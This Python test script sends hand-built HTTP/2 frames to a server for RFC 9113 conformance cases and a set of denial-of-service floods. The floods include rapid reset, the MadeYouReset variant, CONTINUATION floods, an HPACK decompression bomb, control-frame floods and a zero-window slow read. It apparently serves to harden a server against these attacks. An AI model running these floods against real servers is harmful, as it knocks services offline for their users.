#!/usr/bin/python3
"""Frame-level HTTP/2 client for tests/tests/hostile/http2.rs: RFC 9113 conformance cases and
floods (rapid reset, server-provoked resets, CONTINUATION flood, HPACK bomb, PING / SETTINGS /
empty-DATA floods, zero-window slow read) against a cleartext (h2c prior knowledge) listener.

Frames are written by hand (bytes, not a library's frame objects) so that broken ones can be sent;
the `hpack` package (Debian python3-hpack, pulled in by python3-h2) encodes and decodes header
blocks. Every run prints one JSON object on stdout.

    h2_hostile.py HOST PORT conformance
    h2_hostile.py HOST PORT flood NAME [COUNT]
    h2_hostile.py HOST PORT slow-read STREAMS KB SECONDS
"""

import json
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20

ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}


def frame(ftype, flags, stream, payload=b""):
    """One frame, exactly as given (no validation)."""
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def request_headers(path, method="GET", extra=(), authority="localhost"):
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)] + list(extra)


class Conn:
    """A connection that reads and decodes the server's frames."""

    def __init__(self, host, port, initial_settings=(), preface=PREFACE, handshake=True):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.closed = False
        self.events = []
        if preface is not None:
            self.send(preface + settings(initial_settings))
        if handshake:
            # Wait for the server's SETTINGS and acknowledge it, as a client should.
            self.read_until(lambda e: e[0] == "settings", 3)
            self.send(frame(SETTINGS, ACK, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            # Reset by the server: read what it sent before (a GOAWAY, say), then give up.
            if not self.closed:
                self.poll(0.2)
            if not self.closed:
                self.closed = True
                self.events.append(("closed",))
            return False

    def block(self, headers):
        return self.encoder.encode(headers)

    def _frames(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            yield ftype, flags, stream, payload

    def _event(self, ftype, flags, stream, payload):
        if ftype == SETTINGS:
            return ("settings_ack",) if flags & ACK else ("settings",)
        if ftype == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            return ("goaway", ERRORS.get(code, str(code)))
        if ftype == RST_STREAM:
            code = int.from_bytes(payload[0:4], "big")
            return ("rst", stream, ERRORS.get(code, str(code)))
        if ftype == HEADERS:
            block = payload
            if flags & PADDED:
                block = block[1 : len(block) - block[0]]
            if flags & PRIORITY_FLAG:
                block = block[5:]
            try:
                headers = dict(self.decoder.decode(block))
            except Exception as e:  # the server's block: should never fail
                return ("bad_block", str(e))
            status = headers.get(":status") or headers.get(b":status")
            if isinstance(status, bytes):
                status = status.decode()
            return ("headers", stream, int(status) if status else 0, bool(flags & END_STREAM))
        if ftype == DATA:
            return ("data", stream, len(payload), bool(flags & END_STREAM))
        if ftype == PING:
            return ("ping_ack",) if flags & ACK else ("ping",)
        if ftype == WINDOW_UPDATE:
            return ("window_update", stream)
        return ("frame", ftype)

    def poll(self, timeout):
        """Reads what arrives within `timeout`; returns the new events."""
        new = []
        if self.closed:
            return new
        ready, _, _ = select.select([self.sock], [], [], timeout)
        if not ready:
            return new
        try:
            chunk = self.sock.recv(1 << 20)
        except OSError:
            chunk = b""
        if not chunk:
            self.closed = True
        self.buf += chunk
        for f in self._frames():
            new.append(self._event(*f))
        if self.closed:
            new.append(("closed",))
        self.events.extend(new)
        return new

    def read_until(self, predicate, timeout, since=0):
        """Reads until an event (from index `since` on) matches `predicate`, the connection
        closes, or `timeout`."""
        deadline = time.time() + timeout
        for event in self.events[since:]:
            if predicate(event):
                return event
        while time.time() < deadline and not self.closed:
            for event in self.poll(min(0.2, max(0.0, deadline - time.time()))):
                if predicate(event):
                    return event
        return None

    def outcome(self, stream, timeout=3.0):
        """What happened to `stream` or the connection: goaway:CODE, rst:CODE, status:N, closed, timeout."""

        def decisive(e):
            return (
                e[0] in ("goaway", "closed")
                or (e[0] == "rst" and e[1] == stream)
                or (e[0] == "headers" and e[1] == stream)
            )

        # Only what arrives from now on: earlier answers on a reused stream id do not count.
        event = self.read_until(decisive, timeout, since=len(self.events))
        if event is None:
            return "timeout"
        if event[0] == "goaway":
            return "goaway:" + event[1]
        if event[0] == "rst":
            return "rst:" + event[2]
        if event[0] == "headers":
            return "status:%d" % event[2]
        return "closed"

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- Conformance cases (RFC 9113). Each returns the outcome string for its stream.


def case(name, fn, host, port):
    try:
        conn = Conn(host, port, preface=None if name == "bad-preface" else PREFACE, handshake=name != "bad-preface")
    except OSError as e:
        return {"name": name, "outcome": "connect-failed: %s" % e}
    try:
        outcome = fn(conn, "/marklog.php?m=h2-" + name)
    except OSError as e:
        outcome = "closed (%s)" % e
    conn.close()
    return {"name": name, "outcome": outcome}


def hdrs(conn, stream, path, method="GET", extra=(), flags=END_STREAM | END_HEADERS, authority="localhost"):
    return frame(HEADERS, flags, stream, conn.block(request_headers(path, method, extra, authority)))


def raw_block(fields):
    """An HPACK block of literal fields without indexing, names exactly as given (any case)."""
    out = b""
    for name, value in fields:
        out += b"\x00" + hpack_string(name) + hpack_string(value)
    return out


def hpack_string(s):
    data = s.encode() if isinstance(s, str) else s
    assert len(data) < 127
    return bytes([len(data)]) + data


def conformance_cases():
    c = {}

    def bad_preface(conn, path):
        conn.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + settings())
        return conn.outcome(1)

    c["bad-preface"] = bad_preface

    def data_on_stream_0(conn, path):
        conn.send(frame(DATA, 0, 0, b"x"))
        return conn.outcome(1)

    c["data-on-stream-0"] = data_on_stream_0

    def headers_on_stream_0(conn, path):
        conn.send(hdrs(conn, 0, path))
        return conn.outcome(0)

    c["headers-on-stream-0"] = headers_on_stream_0

    def settings_on_stream_1(conn, path):
        conn.send(frame(SETTINGS, 0, 1, b""))
        return conn.outcome(1)

    c["settings-on-stream-1"] = settings_on_stream_1

    def settings_bad_length(conn, path):
        conn.send(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00"))
        return conn.outcome(1)

    c["settings-bad-length"] = settings_bad_length

    def settings_ack_with_payload(conn, path):
        conn.send(frame(SETTINGS, ACK, 0, struct.pack(">HI", 3, 100)))
        return conn.outcome(1)

    c["settings-ack-with-payload"] = settings_ack_with_payload

    def settings_enable_push_2(conn, path):
        conn.send(settings([(2, 2)]))
        return conn.outcome(1)

    c["settings-enable-push-2"] = settings_enable_push_2

    def settings_window_too_large(conn, path):
        conn.send(settings([(4, 1 << 31)]))
        return conn.outcome(1)

    c["settings-window-too-large"] = settings_window_too_large

    def settings_frame_size_too_small(conn, path):
        conn.send(settings([(5, 16383)]))
        return conn.outcome(1)

    c["settings-max-frame-size-too-small"] = settings_frame_size_too_small

    def ping_on_stream_1(conn, path):
        conn.send(frame(PING, 0, 1, b"12345678"))
        return conn.outcome(1)

    c["ping-on-stream-1"] = ping_on_stream_1

    def ping_bad_length(conn, path):
        conn.send(frame(PING, 0, 0, b"1234567"))
        return conn.outcome(1)

    c["ping-bad-length"] = ping_bad_length

    def goaway_on_stream_1(conn, path):
        conn.send(frame(GOAWAY, 0, 1, struct.pack(">II", 0, 0)))
        return conn.outcome(1)

    c["goaway-on-stream-1"] = goaway_on_stream_1

    def window_update_zero_connection(conn, path):
        conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
        return conn.outcome(1)

    c["window-update-zero-on-connection"] = window_update_zero_connection

    def window_update_overflow(conn, path):
        conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
        return conn.outcome(1)

    c["window-update-overflow"] = window_update_overflow

    def window_update_zero_stream(conn, path):
        conn.send(hdrs(conn, 1, path, "POST", flags=END_HEADERS) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)))
        return conn.outcome(1)

    c["window-update-zero-on-stream"] = window_update_zero_stream

    def even_stream_id(conn, path):
        conn.send(hdrs(conn, 2, path))
        return conn.outcome(2)

    c["even-stream-id"] = even_stream_id

    def decreasing_stream_id(conn, path):
        conn.send(hdrs(conn, 5, "/marklog.php?m=h2-decreasing-stream-id-first"))
        conn.read_until(lambda e: e[0] == "data" and e[1] == 5 and e[3], 5)
        conn.send(hdrs(conn, 3, path))
        return conn.outcome(3)

    c["decreasing-stream-id"] = decreasing_stream_id

    def reused_stream_id(conn, path):
        conn.send(hdrs(conn, 1, "/marklog.php?m=h2-reused-stream-id-first"))
        conn.read_until(lambda e: e[0] == "data" and e[1] == 1 and e[3], 5)
        conn.send(hdrs(conn, 1, path))
        return conn.outcome(1)

    c["reused-stream-id"] = reused_stream_id

    def literal_request(fields):
        def run(conn, path):
            fields_with_path = [(n, path if v == "{path}" else v) for n, v in fields]
            conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, raw_block(fields_with_path)))
            return conn.outcome(1)

        return run

    base = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "{path}")]
    c["uppercase-header-name"] = literal_request(base + [("X-Upper", "1")])
    c["connection-header"] = literal_request(base + [("connection", "keep-alive")])
    c["keep-alive-header"] = literal_request(base + [("keep-alive", "timeout=5")])
    c["transfer-encoding-header"] = literal_request(base + [("transfer-encoding", "chunked")])
    c["upgrade-header"] = literal_request(base + [("upgrade", "websocket")])
    c["te-not-trailers"] = literal_request(base + [("te", "gzip")])
    c["missing-method"] = literal_request([f for f in base if f[0] != ":method"])
    c["missing-path"] = literal_request([f for f in base if f[0] != ":path"])
    c["missing-scheme"] = literal_request([f for f in base if f[0] != ":scheme"])
    c["empty-path"] = literal_request([(n, "" if n == ":path" else v) for n, v in base])
    c["duplicate-path"] = literal_request(base + [(":path", "/marklog.php?m=h2-duplicate-path-2")])
    c["unknown-pseudo-header"] = literal_request(base + [(":foo", "bar")])
    c["pseudo-after-regular"] = literal_request(base[:3] + [("x-a", "1"), base[3]])
    c["response-pseudo-in-request"] = literal_request(base + [(":status", "200")])
    c["newline-in-value"] = literal_request(base + [("x-a", "a\r\nx-injected: 1")])
    c["nul-in-value"] = literal_request(base + [("x-a", "a\x00b")])
    c["space-in-name"] = literal_request(base + [("x a", "1")])

    def cl_mismatch_short(conn, path):
        conn.send(
            hdrs(conn, 1, path, "POST", [("content-length", "10")], flags=END_HEADERS)
            + frame(DATA, END_STREAM, 1, b"12345")
        )
        return conn.outcome(1)

    c["content-length-more-than-data"] = cl_mismatch_short

    def cl_mismatch_long(conn, path):
        conn.send(
            hdrs(conn, 1, path, "POST", [("content-length", "3")], flags=END_HEADERS)
            + frame(DATA, END_STREAM, 1, b"12345")
        )
        return conn.outcome(1)

    c["content-length-less-than-data"] = cl_mismatch_long

    def data_before_headers(conn, path):
        conn.send(frame(DATA, END_STREAM, 1, b"x"))
        return conn.outcome(1)

    c["data-on-idle-stream"] = data_before_headers

    def continuation_without_headers(conn, path):
        conn.send(frame(CONTINUATION, END_HEADERS, 1, conn.block(request_headers(path))))
        return conn.outcome(1)

    c["continuation-without-headers"] = continuation_without_headers

    def interleaved_frame(conn, path):
        block = conn.block(request_headers(path))
        conn.send(
            frame(HEADERS, END_STREAM, 1, block[:5])
            + frame(PING, 0, 0, b"12345678")
            + frame(CONTINUATION, END_HEADERS, 1, block[5:])
        )
        return conn.outcome(1)

    c["frame-between-headers-and-continuation"] = interleaved_frame

    def continuation_other_stream(conn, path):
        block = conn.block(request_headers(path))
        conn.send(frame(HEADERS, END_STREAM, 1, block[:5]) + frame(CONTINUATION, END_HEADERS, 3, block[5:]))
        return conn.outcome(1)

    c["continuation-on-another-stream"] = continuation_other_stream

    def oversized_frame(conn, path):
        conn.send(hdrs(conn, 1, path, "POST", flags=END_HEADERS) + frame(DATA, END_STREAM, 1, b"x" * 16385))
        return conn.outcome(1)

    c["frame-larger-than-max-frame-size"] = oversized_frame

    def priority_self_dependency(conn, path):
        conn.send(frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 15)))
        conn.send(hdrs(conn, 3, "/marklog.php?m=h2-priority-self-dependency-next"))
        return conn.outcome(1)

    c["priority-depends-on-itself"] = priority_self_dependency

    def rst_on_idle(conn, path):
        conn.send(frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
        return conn.outcome(1)

    c["rst-stream-on-idle-stream"] = rst_on_idle

    def rst_on_stream_0(conn, path):
        conn.send(frame(RST_STREAM, 0, 0, struct.pack(">I", 8)))
        return conn.outcome(1)

    c["rst-stream-on-stream-0"] = rst_on_stream_0

    def bad_hpack_index(conn, path):
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x82\x86\xff\x7f"))
        return conn.outcome(1)

    c["hpack-index-out-of-range"] = bad_hpack_index

    def hpack_index_zero(conn, path):
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x80"))
        return conn.outcome(1)

    c["hpack-index-zero"] = hpack_index_zero

    def data_after_end_stream(conn, path):
        conn.send(
            hdrs(conn, 1, "/sleep.php?ms=300", "POST", [("content-length", "1")], flags=END_HEADERS)
            + frame(DATA, END_STREAM, 1, b"x")
            + frame(DATA, END_STREAM, 1, b"y")
        )
        return conn.outcome(1)

    c["data-after-end-stream"] = data_after_end_stream

    def push_promise_from_client(conn, path):
        conn.send(frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + conn.block(request_headers(path))))
        return conn.outcome(1)

    c["push-promise-from-client"] = push_promise_from_client

    def padding_too_long(conn, path):
        block = conn.block(request_headers(path))
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS | PADDED, 1, bytes([len(block) + 10]) + block))
        return conn.outcome(1)

    c["padding-longer-than-frame"] = padding_too_long

    # Tolerated extensions: ignored, and the request is served.
    def unknown_frame_type(conn, path):
        conn.send(frame(0x42, 0, 0, b"whatever") + hdrs(conn, 1, path))
        return conn.outcome(1)

    c["unknown-frame-type-ignored"] = unknown_frame_type

    def unknown_setting(conn, path):
        conn.send(settings([(0x99, 1)]) + hdrs(conn, 1, path))
        return conn.outcome(1)

    c["unknown-setting-ignored"] = unknown_setting

    def te_trailers(conn, path):
        conn.send(hdrs(conn, 1, path, extra=[("te", "trailers")]))
        return conn.outcome(1)

    c["te-trailers-allowed"] = te_trailers
    return c


def settings_not_first_case(host, port):
    sock = socket.create_connection((host, port), timeout=5)
    conn = Conn.__new__(Conn)
    conn.sock, conn.buf, conn.closed, conn.events = sock, b"", False, []
    conn.encoder, conn.decoder = hpack.Encoder(), hpack.Decoder()
    conn.send(PREFACE + frame(PING, 0, 0, b"12345678"))
    outcome = conn.outcome(1)
    if outcome == "timeout" and any(e[0] == "ping_ack" for e in conn.events):
        outcome = "ping-answered"
    conn.close()
    return {"name": "settings-not-first", "outcome": outcome}


def conformance(host, port):
    results = [settings_not_first_case(host, port)]
    for name, fn in conformance_cases().items():
        results.append(case(name, fn, host, port))
    return {"cases": results}


# --- Floods. Each returns what it sent and how the server ended the connection.


def send_batches(conn, frames_iter, batch=200, deadline=None):
    sent = 0
    chunk = []
    for f in frames_iter:
        chunk.append(f)
        if len(chunk) >= batch:
            if not conn.send(b"".join(chunk)):
                return sent
            sent += len(chunk)
            chunk = []
            conn.poll(0)
            if conn.closed or (deadline and time.time() > deadline):
                return sent
    if chunk and conn.send(b"".join(chunk)):
        sent += len(chunk)
    return sent


def finish(conn, started, sent, extra=None, wait=10):
    seconds = round(time.time() - started, 3)
    # Returns as soon as the server ends the connection. `wait` only matters when it does not:
    # for a flood it must cut off, long enough for a server starved of CPU time to read what
    # was sent; for one it may leave open, short.
    conn.read_until(lambda e: e[0] in ("goaway", "closed"), wait)
    goaway = [e for e in conn.events if e[0] == "goaway"]
    if goaway:
        end = "goaway:" + goaway[0][1]
    elif conn.closed:
        end = "closed"
    else:
        end = "open"
    result = {
        "sent": sent,
        "seconds": seconds,
        "end": end,
        "resets_received": sum(1 for e in conn.events if e[0] == "rst"),
        "responses": sum(1 for e in conn.events if e[0] == "headers"),
    }
    result.update(extra or {})
    conn.close()
    return result


def flood(host, port, name, count):
    conn = Conn(host, port)
    started = time.time()
    deadline = started + 20
    if name == "rapid-reset":
        # HEADERS (a complete GET) then RST_STREAM(CANCEL) at once, stream after stream.
        def frames():
            for i in range(count):
                sid = 2 * i + 1
                yield hdrs(conn, sid, "/marklog.php?m=h2rr-%d" % i)
                yield frame(RST_STREAM, 0, sid, struct.pack(">I", 8))

        return finish(conn, started, send_batches(conn, frames(), deadline=deadline) // 2)
    if name == "rapid-reset-post":
        # A POST whose body never comes, cancelled at once: nothing may reach a worker.
        def frames():
            for i in range(count):
                sid = 2 * i + 1
                yield hdrs(conn, sid, "/marklog.php?m=h2rrpost-%d" % i, "POST", flags=END_HEADERS)
                yield frame(RST_STREAM, 0, sid, struct.pack(">I", 8))

        return finish(conn, started, send_batches(conn, frames(), deadline=deadline) // 2)
    if name == "made-you-reset":
        # CVE-2025-8671 ("MadeYouReset"): a request, then a frame that makes the server reset the
        # stream itself (more DATA than the declared content-length is a stream error), so that
        # no reset is ever the client's own. (WINDOW_UPDATE 0 on a stream, the other classic
        # trigger, already costs the connection: the conformance case shows a GOAWAY.)
        def frames():
            for i in range(count):
                sid = 2 * i + 1
                yield hdrs(conn, sid, "/marklog.php?m=h2myr-%d" % i, "POST", [("content-length", "1")], flags=END_HEADERS)
                yield frame(DATA, END_STREAM, sid, b"xx")

        return finish(conn, started, send_batches(conn, frames(), deadline=deadline) // 2)
    if name == "continuation-flood":
        # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
        block = conn.block(request_headers("/marklog.php?m=h2cont"))
        filler = raw_block([("x-filler-%d" % i, "v" * 100) for i in range(140)])

        def frames():
            yield frame(HEADERS, END_STREAM, 1, block)
            for _ in range(count):
                yield frame(CONTINUATION, 0, 1, filler)

        sent = send_batches(conn, frames(), batch=20, deadline=deadline)
        return finish(conn, started, sent, {"bytes_sent": sent * len(filler)})
    if name == "hpack-bomb":
        # A 4 KiB header enters the dynamic table once; each later request names it 4000 times
        # with one byte each: 16 MiB of headers per 4 KiB frame.
        big = "b" * 4000
        first = conn.encoder.encode(request_headers("/marklog.php?m=h2bomb-seed") + [("x-big", big)])
        # The entry just added is dynamic index 62 (0xbe as an indexed field).
        refs = b"\xbe" * 4000

        def frames():
            yield frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
            for i in range(1, count + 1):
                sid = 2 * i + 1
                head = conn.encoder.encode(request_headers("/marklog.php?m=h2bomb-%d" % i))
                yield frame(HEADERS, END_STREAM | END_HEADERS, sid, head + refs)

        sent = send_batches(conn, frames(), batch=10, deadline=deadline)
        return finish(conn, started, sent, {"decoded_bytes_claimed": sent * 4000 * 4000}, wait=2)
    if name == "ping-flood":
        sent = send_batches(conn, (frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(count)), batch=1000, deadline=deadline)
        return finish(conn, started, sent, wait=2)
    if name == "settings-flood":
        sent = send_batches(conn, (settings([(4, 65535 + (i % 2))]) for i in range(count)), batch=1000, deadline=deadline)
        return finish(conn, started, sent, wait=2)
    if name == "empty-data-flood":
        def frames():
            yield hdrs(conn, 1, "/marklog.php?m=h2empty", "POST", flags=END_HEADERS)
            for _ in range(count):
                yield frame(DATA, 0, 1, b"")
            yield frame(DATA, END_STREAM, 1, b"")

        sent = send_batches(conn, frames(), batch=1000, deadline=deadline)
        return finish(conn, started, sent)
    if name == "window-update-flood":
        sent = send_batches(conn, (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) for _ in range(count)), batch=1000, deadline=deadline)
        return finish(conn, started, sent, wait=2)
    raise SystemExit("unknown flood " + name)


def slow_read(host, port, streams, kb, seconds):
    """Opens `streams` requests for `kb` KiB each with a zero stream window, reads nothing but the
    headers, and holds the connection for `seconds`."""
    conn = Conn(host, port, initial_settings=[(4, 0)])
    for i in range(streams):
        conn.send(hdrs(conn, 2 * i + 1, "/bigtext.php?kb=%d&m=%d" % (kb, i)))
    heads = 0
    deadline = time.time() + seconds
    while time.time() < deadline and not conn.closed:
        for e in conn.poll(0.2):
            if e[0] == "headers":
                heads += 1
    data = sum(e[2] for e in conn.events if e[0] == "data")
    result = {"streams": streams, "heads": heads, "data_bytes": data, "closed": conn.closed}
    conn.close()
    return result


def main():
    host, port, what = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if what == "conformance":
        out = conformance(host, port)
    elif what == "flood":
        out = flood(host, port, sys.argv[4], int(sys.argv[5]) if len(sys.argv) > 5 else 10000)
    elif what == "slow-read":
        out = slow_read(host, port, int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
    else:
        raise SystemExit(__doc__)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
